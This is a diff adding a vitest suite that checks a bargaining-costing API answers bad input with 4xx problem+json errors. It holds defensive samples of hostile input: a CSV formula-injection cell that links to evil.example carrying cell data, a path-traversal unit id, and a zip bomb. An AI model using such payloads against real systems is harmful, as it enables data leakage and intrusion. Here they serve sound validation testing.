@@ -1,0 +1,175 @@
+// A corpus of bad input: each gets a 4xx application/problem+json naming the field; never a 5xx.
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { client, type Reply } from '../server/support/http.js';
+import { sampleScenario } from '../server/support/sampleScenario.js';
+import { seedBasics } from '../server/support/seed.js';
+import { startTestServer, type TestServer } from '../server/support/testServer.js';
+import { sqliteTestDatabase, type TestDatabase } from '../server/support/testStores.js';
+import { zipOf } from '../server/support/zipFile.js';
+
+let db: TestDatabase;
+let server: TestServer;
+let tokens: Record<string, string>;
+const replies: Reply[] = [];
+const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
+
+beforeAll(async () => {
+  db = await sqliteTestDatabase();
+  tokens = (await seedBasics(db.store)).tokens;
+  server = await startTestServer({ store: db.store, config: { bodyLimit: '300kb', importBodyLimit: '1mb' } });
+});
+afterAll(async () => {
+  await server?.close();
+  await db?.dispose();
+});
+
+async function send(who: string, method: string, path: string, body?: unknown, headers?: Record<string, string>): Promise<Reply> {
+  const reply = await client(server.url, tokens[who])(method, path, body, headers);
+  replies.push(reply);
+  return reply;
+}
+
+function expectProblem(reply: Reply, status: number, path?: string | RegExp): void {
+  expect(reply.status, reply.text.slice(0, 400)).toBe(status);
+  expect(reply.headers.get('content-type')).toContain('application/problem+json');
+  expect(reply.body).toMatchObject({ status, title: expect.any(String), detail: expect.any(String), type: expect.stringMatching(/^urn:bargaining-costing:problem:/) });
+  if (path !== undefined) {
+    const paths = (reply.body.errors ?? []).map((e: { path: string }) => e.path);
+    if (typeof path === 'string') expect(paths).toContain(path);
+    else expect(paths.some((p: string) => path.test(p)), JSON.stringify(reply.body.errors)).toBe(true);
+  }
+}
+
+afterEach(() => {
+  for (const r of replies) expect(r.status).toBeLessThan(500);
+  replies.length = 0;
+});
+
+describe('bad JSON bodies', () => {
+  it('malformed JSON → 400 naming the body', async () => {
+    const reply = await send('analyst', 'POST', '/cost-models', '{"unitId": "A", "title": ', { 'content-type': 'application/json' });
+    expectProblem(reply, 400, 'body');
+    expect(reply.body.title).toBe('Malformed JSON');
+  });
+
+  it('a JSON array or string where an object belongs → 400', async () => {
+    expectProblem(await send('analyst', 'POST', '/cost-models', '[1,2]', { 'content-type': 'application/json' }), 400, 'body');
+    expectProblem(await send('analyst', 'POST', '/cost-models', '"text"', { 'content-type': 'application/json' }), 400, 'body');
+  });
+
+  it('wrong types → 400 naming the field and the reason', async () => {
+    const reply = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 5, scenario: sampleScenario('A') });
+    expectProblem(reply, 400, 'body.title');
+    const s = sampleScenario('A') as any;
+    s.roster.rows[1].step = 'two';
+    s.schedule.classes[0].steps[0] = 45.12;
+    const deep = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 't', scenario: s });
+    expectProblem(deep, 400, 'scenario.roster.rows[1].step');
+    const money = deep.body.errors.find((e: { path: string }) => e.path === 'scenario.schedule.classes[0].steps[0]');
+    expect(money.message).toMatch(/decimal string/);
+  });
+
+  it('unknown fields → 400 naming the key', async () => {
+    const top = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 't', scenario: sampleScenario('A'), priority: 'high' });
+    expectProblem(top, 400);
+    expect(JSON.stringify(top.body.errors)).toMatch(/priority/);
+    const s = sampleScenario('A') as any;
+    s.roster.rows[0].salary = '100000';
+    const deep = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 't', scenario: s });
+    expectProblem(deep, 400, 'scenario.roster.rows[0]');
+    expect(JSON.stringify(deep.body.errors)).toMatch(/salary/);
+  });
+
+  it('a roster with impossible steps → 400 naming the row and step', async () => {
+    const s = sampleScenario('A') as any;
+    s.roster.rows[2].step = 9;
+    s.roster.rows[3].step = 0;
+    const reply = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 't', scenario: s });
+    expectProblem(reply, 400, 'scenario.roster.rows[2].step');
+    expect(reply.body.errors.find((e: { path: string }) => e.path === 'scenario.roster.rows[2].step').message).toMatch(/step 9 does not exist in class PO \(5 steps\)/);
+    expect(reply.body.errors.map((e: { path: string }) => e.path)).toContain('scenario.roster.rows[3].step');
+  });
+
+  it('a scenario for another unit → 400 at scenario.unit.id', async () => {
+    expectProblem(await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 't', scenario: sampleScenario('B') }), 400, 'scenario.unit.id');
+  });
+
+  it('an oversized body → 413', async () => {
+    const s = sampleScenario('A', 3000);
+    const reply = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 'big', scenario: s });
+    expectProblem(reply, 413, 'body');
+  });
+
+  it('bad query parameters → 400 naming them', async () => {
+    expectProblem(await send('analyst', 'GET', '/units/A/schedules/current?asOf=2026-02-30'), 400, 'query.asOf');
+    expectProblem(await send('analyst', 'GET', '/schedules/changes?since=abc'), 400, 'query.since');
+    expectProblem(await send('analyst', 'GET', '/cost-models?state=lost'), 400, 'query.state');
+    expectProblem(await send('analyst', 'GET', '/cost-models?color=red'), 400, /query/);
+  });
+
+  it('an unknown route or id → 404; an invalid unit id → 400', async () => {
+    expectProblem(await send('analyst', 'GET', '/nothing-here'), 404);
+    expectProblem(await send('analyst', 'GET', '/cost-models/00000000-0000-0000-0000-000000000000'), 404);
+    expectProblem(await send('admin', 'GET', '/units/..%2F..%2Fetc/schedules'), 400, 'unitId');
+  });
+
+  it('user and unit administration validates its input', async () => {
+    expectProblem(await send('admin', 'POST', '/users', { name: 'X', role: 'boss' }), 400, 'body.role');
+    expectProblem(await send('admin', 'POST', '/users', { name: 'X', role: 'analyst', units: ['NOPE'] }), 400, 'units[0]');
+    expectProblem(await send('admin', 'POST', '/units', { id: 'A', name: 'dup' }), 409);
+    expectProblem(await send('admin', 'POST', '/users/nobody/tokens', {}), 404);
+  });
+});
+
+describe('bad schedule imports', () => {
+  it('a JSON schedule with a float rate, or a duplicate class → 400 naming them', async () => {
+    const float = await send('admin', 'POST', '/units/A/schedules/import?dryRun=true', { id: 'X', effective: '2026-07-01', classes: [{ code: 'PO', steps: ['1.00', 2.5] }] });
+    expectProblem(float, 400, 'schedule.classes[0].steps[1]');
+    const duplicate = await send('admin', 'POST', '/units/A/schedules/import?dryRun=true', {
+      id: 'X',
+      effective: '2026-07-01',
+      classes: [
+        { code: 'PO', steps: ['1.00'] },
+        { code: 'PO', steps: ['3.00'] },
+      ],
+    });
+    expectProblem(duplicate, 400, 'schedule.classes[1].code');
+  });
+
+  it('an unsupported media type → 415', async () => {
+    expectProblem(await send('admin', 'POST', '/units/A/schedules/import', 'PO,1,2', { 'content-type': 'text/plain' }), 415);
+  });
+
+  it('a CSV without ?effective → 400 naming query.effective', async () => {
+    expectProblem(await send('admin', 'POST', '/units/A/schedules/import', 'Class,Title,Step 1\nPO,Officer,45.12\n', { 'content-type': 'text/csv' }), 400, 'query.effective');
+  });
+
+  it('a CSV with formula injection → 400 naming the cell', async () => {
+    const csv = 'Class,Title,Step 1,Step 2\nPO,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",45.12,47.38\n';
+    const reply = await send('admin', 'POST', '/units/A/schedules/import?effective=2026-07-01&dryRun=true', csv, { 'content-type': 'text/csv' });
+    expectProblem(reply, 400, /CSV!B2/);
+    expect(JSON.stringify(reply.body.errors)).toMatch(/formula/i);
+  });
+
+  it('an XLSX that is not a zip → 400', async () => {
+    const reply = await send('admin', 'POST', '/units/A/schedules/import?effective=2026-07-01', Buffer.from('Class,Step 1\nPO,45.12\n'), { 'content-type': XLSX });
+    expectProblem(reply, 400);
+    expect(reply.body.detail).toMatch(/zip|XLSX/i);
+  });
+
+  it('a zip bomb → 400 before it is inflated', async () => {
+    const bomb = zipOf([
+      { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
+      { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(40 * 1024 * 1024, 0x20) },
+    ]);
+    expect(bomb.length).toBeLessThan(1024 * 1024);
+    const reply = await send('admin', 'POST', '/units/A/schedules/import?effective=2026-07-01', bomb, { 'content-type': XLSX });
+    expectProblem(reply, 400);
+    expect(reply.body.detail).toMatch(/inflate|compress|large|bomb|ratio/i);
+  });
+
+  it('an upload over the import limit → 413', async () => {
+    const reply = await send('admin', 'POST', '/units/A/schedules/import?effective=2026-07-01', Buffer.alloc(2 * 1024 * 1024, 0x41), { 'content-type': XLSX });
+    expectProblem(reply, 413);
+  });
+});
